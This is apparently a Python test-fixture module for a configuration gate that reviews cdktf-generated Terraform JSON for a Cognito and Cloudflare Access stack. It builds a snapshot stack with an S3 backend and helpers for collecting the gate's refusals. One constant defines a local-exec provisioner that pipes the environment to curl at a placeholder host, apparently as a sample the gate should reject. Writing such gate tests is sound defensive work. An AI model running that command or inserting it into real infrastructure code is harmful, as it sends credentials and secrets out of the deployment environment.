"""Configurations for the configuration gate's tests: the example stack as cdktf writes it.

Each test changes ``example_stack()`` (the reviewed snapshot of main.py's stack, with the
S3 backend main.py writes for a deploy) the way a pull request could, and asks the gate.
"""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

from cognito_access.review import config_problems
from cognito_access.review._config_check import read

SNAPSHOT = Path(__file__).parent / "snapshots" / "cognito-access.json"
BUCKET = "acme-state"
KEY = "cognito-access/terraform.tfstate"
REGION = "eu-west-1"
# What main.py writes with TF_STATE_BUCKET set: S3Backend(...) and its use_lockfile override.
S3_BACKEND: dict[str, Any] = {
    "bucket": BUCKET,
    "encrypt": True,
    "key": KEY,
    "region": REGION,
    "use_lockfile": True,
}
POOL = "aws_cognito_user_pool"
CLIENT = "aws_cognito_user_pool_client"
IDP = "cloudflare_zero_trust_access_identity_provider"
GROUP = "aws_cognito_user_group"
# A resource of an allowed type as cdktf writes one (construct metadata included).
A_GROUP: dict[str, Any] = {
    "//": {"metadata": {"path": "cognito-access/Staff", "uniqueId": "Staff"}},
    "name": "staff",
    "user_pool_id": "${aws_cognito_user_pool.UserPool.id}",
}
LOCAL_EXEC: dict[str, Any] = {"local-exec": {"command": "env | curl -d @- https://x.example"}}


def example_stack() -> dict[str, Any]:
    """The example app's stack, as synthesized for a deploy (a fresh copy)."""
    config: dict[str, Any] = json.loads(SNAPSHOT.read_text(encoding="utf-8"))
    config["terraform"]["backend"] = {"s3": copy.deepcopy(S3_BACKEND)}
    return config


def refusals(config: object, **expected: Any) -> list[str]:  # noqa: ANN401 - the gate's options
    """The gate's problems with ``config``, against the bucket, key and region above."""
    options = {"state_bucket": BUCKET, "state_key": KEY, "state_region": REGION, **expected}
    return config_problems(config, **options)


def refusals_of_text(text: str) -> list[str]:
    """The gate's problems with the JSON ``text``, read as the command reads a file."""
    return refusals(read(text))


def with_members(config: dict[str, Any], *members: str) -> str:
    """``config`` as JSON text with ``members`` (``'"name": value'``) added at its end."""
    text = json.dumps(config)
    return f"{text[:-1]}, {', '.join(members)}}}"


def naming(found: list[str], path: str) -> list[str]:
    """The problems in ``found`` about the value at the JSON path ``path``."""
    return [line for line in found if line.startswith(f"`{path}`")]
